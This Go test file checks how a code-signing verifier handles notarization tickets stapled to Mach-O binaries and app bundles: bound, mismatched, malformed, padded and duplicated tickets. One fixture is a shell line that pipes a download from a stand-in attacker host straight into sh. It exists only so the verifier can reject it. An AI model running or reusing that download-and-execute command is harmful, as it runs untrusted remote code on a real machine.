package codesign

import (
	"bytes"
	"encoding/hex"
	"strings"
	"testing"
	"testing/fstest"

	"github.com/shipgate/shipgate/internal/machofile"
	"github.com/shipgate/shipgate/internal/ticketfile"
	"github.com/shipgate/shipgate/signing"
)

// placeholderCDHash stands for a cdhash not known until the code is signed.
var placeholderCDHash = bytes.Repeat([]byte{0x5a, 0xa5}, 10)

// stapledMachO signs a Mach-O with a ticket in its ticket slot naming the
// slice's cdhash: the ticket's size changes LC_CODE_SIGNATURE, hence the
// cdhash, so a same-sized placeholder is signed and then overwritten (the
// ticket slot is bound by nothing).
func stapledMachO(t *testing.T, bind bool) ([]byte, *machofile.Layout) {
	t.Helper()
	p := machofile.NewPKI()
	spec := withExtra(p.DeveloperIDSpec("x"), machofile.ExtraBlob{Slot: 0x10002, Data: ticketfile.BlobWrapper(ticketfile.Ticket(placeholderCDHash))})
	b, lay, err := machofile.Sign(machofile.Build(machofile.Spec{}), spec)
	if err != nil {
		t.Fatal(err)
	}
	if bind {
		i := bytes.Index(b, placeholderCDHash)
		if i < 0 || bytes.Count(b, placeholderCDHash) != 1 {
			t.Fatal("placeholder cdhash not found once")
		}
		copy(b[i:], lay.CDs[0].CDHash())
	}
	return b, lay
}

func ruleSet(r *Result) map[signing.Rule]signing.Severity {
	m := map[signing.Rule]signing.Severity{}
	for _, f := range r.Findings {
		m[f.Rule] = f.Severity
	}
	return m
}

// TestMachOTicketSlot: a ticket in a Mach-O signature's ticket slot is
// attributed to the ticket (a note), not reported as an unbound blob, and
// bound to the slice's cdhash; one for other code is a warning.
func TestMachOTicketSlot(t *testing.T) {
	t.Parallel()
	for _, bind := range []bool{true, false} {
		b, _ := stapledMachO(t, bind)
		r := verifyBytes(t, b, Options{Trust: testTrust(t), Time: checkTime})
		rs := ruleSet(r)
		if _, ok := rs[RuleUnboundBlob]; ok || rs[RuleNotarizationTicketUnverified] != signing.SeverityNote || r.Signatures[0].Status != signing.StatusValid {
			t.Errorf("bind %v: %s %v\n%s", bind, r.Signatures[0].Status, rs, dump(r))
		}
		n := r.Signatures[0].Notarization
		if n == nil || n.Status != signing.NotarizationStapledUnverified || n.Bound() != bind {
			t.Errorf("bind %v: notarization %+v", bind, n)
		}
		if sev, ok := rs[RuleNotarizationTicketMismatch]; ok == bind || (!bind && sev != signing.SeverityWarning) {
			t.Errorf("bind %v: mismatch finding %v %s", bind, ok, sev)
		}
	}
}

// TestMachOTicketSlotGarbage: a blob in the ticket slot that is not a
// wrapped ticket is still an unbound blob, and its facts say malformed.
func TestMachOTicketSlotGarbage(t *testing.T) {
	t.Parallel()
	p := machofile.NewPKI()
	for name, data := range map[string][]byte{
		"payload":      payloadBlob,
		"wrapped junk": ticketfile.BlobWrapper([]byte("https://attacker.example/stage2")),
	} {
		t.Run(name, func(t *testing.T) {
			b, _, err := machofile.Sign(machofile.Build(machofile.Spec{}), withExtra(p.DeveloperIDSpec("x"), machofile.ExtraBlob{Slot: 0x10002, Data: data}))
			if err != nil {
				t.Fatal(err)
			}
			r := verifyBytes(t, b, Options{Trust: testTrust(t), Time: checkTime})
			if ruleSet(r)[RuleUnboundBlob] != signing.SeverityError || r.Signatures[0].Status != signing.StatusInvalid {
				t.Errorf("%s %v", r.Signatures[0].Status, ruleSet(r))
			}
			if n := r.Signatures[0].Notarization; n == nil || n.Status != signing.NotarizationMalformed {
				t.Errorf("notarization %+v", n)
			}
		})
	}
}

// TestMachOTicketSlotLayout: a wrapped ticket with bytes after the content
// its header declares is a ticket (not an unbound blob) whose layout is
// reported as a warning.
func TestMachOTicketSlotLayout(t *testing.T) {
	t.Parallel()
	p := machofile.NewPKI()
	data := ticketfile.BlobWrapper(append(ticketfile.Ticket(placeholderCDHash), "stage2"...))
	b, _, err := machofile.Sign(machofile.Build(machofile.Spec{}), withExtra(p.DeveloperIDSpec("x"), machofile.ExtraBlob{Slot: 0x10002, Data: data}))
	if err != nil {
		t.Fatal(err)
	}
	r := verifyBytes(t, b, Options{Trust: testTrust(t), Time: checkTime})
	rs := ruleSet(r)
	if rs[RuleNotarizationTicketLayout] != signing.SeverityWarning || rs[RuleUnboundBlob] != 0 || r.Signatures[0].Status != signing.StatusValid {
		t.Errorf("%s %v", r.Signatures[0].Status, rs)
	}
	if n := r.Signatures[0].Notarization; n == nil || n.Status != signing.NotarizationStapledUnverified || !strings.Contains(n.Detail, "6 bytes follow") {
		t.Errorf("notarization %+v", n)
	}
}

// mainCDHash returns the example bundle's main executable's first cdhash.
func mainCDHash(t *testing.T, m fstest.MapFS, opts Options) []byte {
	t.Helper()
	res, err := VerifyBundle(m, "Example.app", opts)
	if err != nil {
		t.Fatal(err)
	}
	for _, it := range res.Items {
		if it.Main && it.Path == "Example.app/Contents/MacOS/Example" {
			h, err := hex.DecodeString(it.Result.Slices[0].CDHashes[0])
			if err != nil {
				t.Fatal(err)
			}
			return h
		}
	}
	t.Fatal("no main executable")
	return nil
}

// bundleNotarization returns the notarization facts of the top bundle's
// main executable.
func bundleNotarization(t *testing.T, res *BundleResult) *signing.Notarization {
	t.Helper()
	for _, it := range res.Items {
		if it.Main && it.Path == res.Executable {
			return it.Result.Signatures[0].Notarization
		}
	}
	t.Fatal("no main executable")
	return nil
}

// TestBundleTicket: Contents/CodeResources holding a ticket that names the
// main executable's cdhash is stapled-unverified and bound; one naming
// other code is a warning; garbage, truncated and padded tickets are
// unsealed data; no file is not-stapled.
func TestBundleTicket(t *testing.T) {
	t.Parallel()
	base := machofile.ExampleBundle(machofile.NewPKI())
	opts := Options{Trust: testTrust(t), Time: checkTime}
	cd := mainCDHash(t, bundleFS(base), opts)
	good := ticketfile.Ticket(cd)
	for _, c := range []struct {
		name   string
		data   []byte // nil: no ticket file
		status signing.NotarizationStatus
		bound  bool
		rule   signing.Rule
		sev    signing.Severity
	}{
		{"bound", good, signing.NotarizationStapledUnverified, true, RuleNotarizationTicketUnverified, signing.SeverityNote},
		{"other code", ticketfile.Ticket(placeholderCDHash), signing.NotarizationStapledUnverified, false, RuleNotarizationTicketMismatch, signing.SeverityWarning},
		{"garbage", []byte("#!/bin/sh\ncurl https://attacker.example | sh\n"), signing.NotarizationMalformed, false, RuleNotarizationTicketMalformed, signing.SeverityError},
		{"truncated", good[:len(good)/2], signing.NotarizationMalformed, false, RuleNotarizationTicketMalformed, signing.SeverityError},
		{"trailing bytes", append(bytes.Clone(good), "stage2"...), signing.NotarizationStapledUnverified, true, RuleNotarizationTicketLayout, signing.SeverityWarning},
		{"not stapled", nil, signing.NotarizationNotStapled, false, "", 0},
	} {
		t.Run(c.name, func(t *testing.T) {
			m := bundleFS(base)
			if c.data != nil {
				m["Example.app/Contents/CodeResources"] = &fstest.MapFile{Data: c.data}
			}
			res, err := VerifyBundle(m, "Example.app", opts)
			if err != nil {
				t.Fatal(err)
			}
			n := bundleNotarization(t, res)
			if n == nil || n.Status != c.status || n.Bound() != c.bound {
				t.Fatalf("notarization %+v", n)
			}
			if c.bound && (n.Location != "Contents/CodeResources" || n.TicketSHA256 == "") {
				t.Errorf("notarization %+v", n)
			}
			found := false
			for _, f := range res.Findings {
				if f.Rule == c.rule && f.Severity == c.sev && f.Path == "Example.app/Contents/CodeResources" {
					found = true
				}
			}
			if c.rule != "" && !found {
				t.Errorf("no %s %s finding: %+v", c.sev, c.rule, res.Findings)
			}
		})
	}
}

// TestTicketSlotTwice: two blobs in the ticket slot (a bound ticket hiding
// a second one) are a duplicate slot, an error, whatever they hold.
func TestTicketSlotTwice(t *testing.T) {
	t.Parallel()
	p := machofile.NewPKI()
	w := ticketfile.BlobWrapper(ticketfile.Ticket(placeholderCDHash))
	spec := withExtra(withExtra(p.DeveloperIDSpec("x"), machofile.ExtraBlob{Slot: 0x10002, Data: w}), machofile.ExtraBlob{Slot: 0x10002, Data: w})
	b, _, err := machofile.Sign(machofile.Build(machofile.Spec{}), spec)
	if err != nil {
		t.Fatal(err)
	}
	r := verifyBytes(t, b, Options{Trust: testTrust(t), Time: checkTime})
	if ruleSet(r)[RuleDuplicateSlot] != signing.SeverityError || r.Signatures[0].Status == signing.StatusValid {
		t.Errorf("%s %v", r.Signatures[0].Status, ruleSet(r))
	}
}

// TestBundleTicketNested: nested bundles without a ticket of their own are
// checked against the enclosing bundle's, which lists every executable of
// a submission; naming the framework binds it, not naming it leaves it
// unbound without a warning.
func TestBundleTicketNested(t *testing.T) {
	t.Parallel()
	base := machofile.ExampleBundle(machofile.NewPKI())
	opts := Options{Trust: testTrust(t), Time: checkTime}
	res, err := VerifyBundle(bundleFS(base), "Example.app", opts)
	if err != nil {
		t.Fatal(err)
	}
	var mainCD, fwCD []byte
	var fwPath string
	for _, it := range res.Items {
		if !it.Main || it.Result == nil {
			continue
		}
		h, _ := hex.DecodeString(it.Result.Slices[0].CDHashes[0])
		if it.Path == res.Executable {
			mainCD = h
		} else {
			fwCD, fwPath = h, it.Path
		}
		if n := it.Result.Signatures[0].Notarization; n == nil || n.Status != signing.NotarizationNotStapled {
			t.Errorf("%s unstapled: %+v", it.Path, n)
		}
	}
	if mainCD == nil || fwCD == nil {
		t.Fatal("fixture lacks a main executable or a nested framework")
	}
	for _, c := range []struct {
		ticket  []byte
		fwBound bool
	}{{ticketfile.Ticket(mainCD), false}, {ticketfile.Ticket(mainCD, fwCD), true}} {
		m := bundleFS(base)
		m["Example.app/Contents/CodeResources"] = &fstest.MapFile{Data: c.ticket}
		res, err := VerifyBundle(m, "Example.app", opts)
		if err != nil {
			t.Fatal(err)
		}
		for _, it := range res.Items {
			if it.Path != fwPath {
				continue
			}
			n := it.Result.Signatures[0].Notarization
			if n == nil || n.Status != signing.NotarizationStapledUnverified || n.Bound() != c.fwBound || n.Location != "Example.app/Contents/CodeResources" {
				t.Errorf("framework bound %v: %+v", c.fwBound, n)
			}
		}
		if _, warned := ruleSet(&Result{Findings: res.Findings})[RuleNotarizationTicketMismatch]; warned {
			t.Errorf("a warning for nested code the ticket does not list: %v", res.Findings)
		}
	}
}
